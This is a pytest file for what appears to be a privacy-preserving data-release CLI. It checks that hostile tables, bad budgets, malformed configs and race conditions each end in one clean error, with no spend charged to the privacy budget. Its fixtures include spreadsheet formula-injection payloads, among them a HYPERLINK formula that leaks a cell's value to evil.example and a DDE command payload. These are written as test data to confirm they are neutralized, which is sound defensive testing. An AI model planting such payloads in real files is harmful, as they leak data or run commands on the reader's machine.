"""Hostile input and careless users: one clear error, no budget spent on a failure, outputs that
cannot attack their reader."""

from __future__ import annotations

import csv
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from safeshare.cli import main
from safeshare.dp.ledger import Ledger
from safeshare.release.output import FORMULA_START

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def _spends(path: Path) -> int:
    return sum(s.releases for s in Ledger(path).datasets()) if path.exists() else 0


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Price tiers that matplotlib would parse as mathtext, a column named like Rich markup and
    one named like a formula, holding formulas."""
    rng = np.random.default_rng(0)
    rows = 3000
    frame = pd.DataFrame(
        {
            "price": rng.choice(["$", "$$", "$$$", r"$\frac$"], rows),
            "[/]": rng.choice([f"v{i}" for i in range(400)], rows),  # too rare: a warning names it
            PAYLOADS[0]: rng.choice(PAYLOADS, rows),
            "age": rng.integers(18, 90, rows),
        }
    )
    path = tmp_path_factory.mktemp("hostile") / "hostile.csv"
    frame.to_csv(path, index=False)
    return path


def test_a_hostile_table_releases_with_neutralized_cells(hostile_csv, tmp_path, capsys):
    out, ledger = tmp_path / "out", tmp_path / "ledger.sqlite"
    argv = ["release", str(hostile_csv), "--epsilon", "4", "--out", str(out), "--seed", "1"]
    code = main([*argv, "--ledger", str(ledger), "--quiet"])
    err = capsys.readouterr().err
    assert code == 0, err
    # --quiet drops the summary, not the warnings; this one names the column as it is
    assert "'[/]'" in err and "warning:" in err
    assert (out / "report.html").stat().st_size > 0
    with (out / "synthetic.csv").open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    formulas = [c for c in cells if c.startswith(FORMULA_START) and not _is_number(c)]
    assert formulas == []
    assert any(c.startswith("'=HYPERLINK") for c in cells)  # the header, neutralized
    assert {"$", "$$"} & set(cells)  # the price tiers were released as they are


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--epsilon", "3e-6"], "too small"),
        (["--epsilon", "1e308"], "protects no one"),
        (["--seed", "-1"], "--seed must be a whole number"),
    ],
)
def test_a_release_refuses_bad_budgets_before_the_ledger(
    extra, message, hostile_csv, tmp_path, capsys
):
    ledger = tmp_path / "ledger.sqlite"
    argv = ["release", str(hostile_csv), "--out", str(tmp_path / "o"), "--ledger", str(ledger)]
    code = main([*argv, *extra])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error:") and message in err and "Traceback" not in err
    assert _spends(ledger) == 0 and not (tmp_path / "o").exists()


@pytest.mark.parametrize("failure", [OSError(28, "No space left on device"), KeyboardInterrupt()])
def test_a_machine_failure_after_the_spend_is_refunded(
    failure, fair_csv, tmp_path, monkeypatch, capsys
):
    from safeshare.release import pipeline

    def broken(*args: object, **kwargs: object) -> None:
        raise failure

    monkeypatch.setattr(pipeline, "write_release", broken)
    ledger = tmp_path / "ledger.sqlite"
    argv = ["release", str(fair_csv), "--out", str(tmp_path / "o"), "--ledger", str(ledger)]
    code = main([*argv, "--quiet"])
    err = capsys.readouterr().err
    assert code == (2 if isinstance(failure, OSError) else 130)
    assert "Traceback" not in err and _spends(ledger) == 0
    if isinstance(failure, OSError):
        assert "No space left on device" in err and "not charged" in err
    assert not (tmp_path / "o").exists()


@pytest.mark.parametrize(
    ("extra", "message"),
    [
        (["--port", "70000"], "is not a TCP port"),
        (["--host", "0.0.0.0"], "pass --allow-remote"),
        (["--host", "0.0.0.0", "--allow-remote", "--token-env", "NO_SUCH_VARIABLE"], "not set"),
    ],
)
def test_the_server_refuses_a_port_or_an_open_host_before_it_loads(extra, message, capsys):
    code = main(["obfuscate", "serve", *extra])
    err = capsys.readouterr().err
    assert code == 2 and err.startswith("error:") and message in err and "Traceback" not in err


def _files(folder: Path) -> None:
    """The hostile files the cases below name."""
    (folder / "date.yaml").write_text("columns:\n  age: {kind: numeric, min: 2020-13-45}\n")
    (folder / "deep.yaml").write_text("a: " + "[" * 5000 + "]" * 5000 + "\n")
    (folder / "folder.yaml").mkdir()
    (folder / "bins.yaml").write_text(
        "columns:\n  age: {kind: numeric, min: 0, max: 9, bins: 1000000000}\n"
    )
    (folder / "binary.csv").write_bytes(bytes(range(256)) * 4)
    (folder / "binh.yaml").write_text(
        "quasi_identifiers:\n  age: {hierarchy: binary.csv}\nprivacy:\n  k: 2\n"
    )
    (folder / "model").mkdir()
    (folder / "model" / "card.json").write_text("{not json")
    (folder / "model" / "model.safetensors").write_bytes(b"not weights")
    (folder / "transform").mkdir()
    (folder / "transform" / "transform.json").write_text("[1, 2]")
    (folder / "transform" / "transform.safetensors").write_bytes(b"not weights")
    (folder / "public.txt").write_text("a public text\nanother one\n")
    (folder / "blackbox.py").write_text(
        "def leak(frame):\n    raise ValueError(f'QQSECRET {frame.iloc[0].tolist()}')\n"
    )


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["release", "{data}", "--schema", "date.yaml"], "month must be in 1..12"),
        (["release", "{data}", "--schema", "deep.yaml"], "nested too deeply"),
        (["release", "{data}", "--schema", "folder.yaml"], "is a folder"),
        (["release", "{data}", "--schema", "bins.yaml"], "bins must lie in [1, 100000]"),
        (["anonymize", "{data}", "--config", "binh.yaml"], "is not UTF-8 text"),
        (["anonymize", "{data}", "--config", "deep.yaml"], "nested too deeply"),
        (["audit", "model", "--data", "{data}"], "not valid JSON at line 1"),
        (
            ["evaluate", "--train", "binary.csv", "--holdout", "{data}", "--release", "{data}"],
            "binary data",
        ),
        (
            ["pac", "--data", "{data}", "--function", "blackbox:leak", "--mi", "0.1"],
            "raised ValueError",
        ),
    ],
    ids=[
        "yaml-date",
        "yaml-deep",
        "schema-folder",
        "huge-bins",
        "binary-hierarchy",
        "config-deep",
        "bad-card",
        "binary-table",
        "failing-black-box",
    ],
)
def test_bad_files_end_in_one_error_line(argv, message, fair_csv, tmp_path, monkeypatch, capsys):
    _files(tmp_path)
    monkeypatch.chdir(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.delitem(sys.modules, "blackbox", raising=False)  # (the other file's)
    argv = [a.format(data=fair_csv) for a in argv]
    code = main([*argv, "--out", str(tmp_path / "out")])
    err = capsys.readouterr().err
    assert code == 2, err
    assert err.startswith("error:") and message in err and "Traceback" not in err
    assert "QQSECRET" not in err and not (tmp_path / "out").exists()


def test_the_loser_of_two_releases_to_one_folder_is_not_charged(
    fair_csv, tmp_path, monkeypatch, capsys
):
    """Another run puts its release at --out while this one computes: this one's output is
    refused at the final swap, and its spend refunded."""
    from safeshare.output_folder import MARKER
    from safeshare.release import pipeline

    out, ledger = tmp_path / "o", tmp_path / "ledger.sqlite"
    evaluated = pipeline._evaluated

    def raced(*args: object, **kwargs: object) -> object:
        out.mkdir()
        (out / MARKER).write_text("written by safeshare\n")
        (out / "synthetic.csv").write_text("the winner's release\n")
        return evaluated(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(pipeline, "_evaluated", raced)
    code = main(["release", str(fair_csv), "--out", str(out), "--ledger", str(ledger), "-q"])
    err = capsys.readouterr().err
    assert code == 2 and "exists" in err and "not charged" in err and "Traceback" not in err
    assert _spends(ledger) == 0
    assert (out / "synthetic.csv").read_text() == "the winner's release\n"
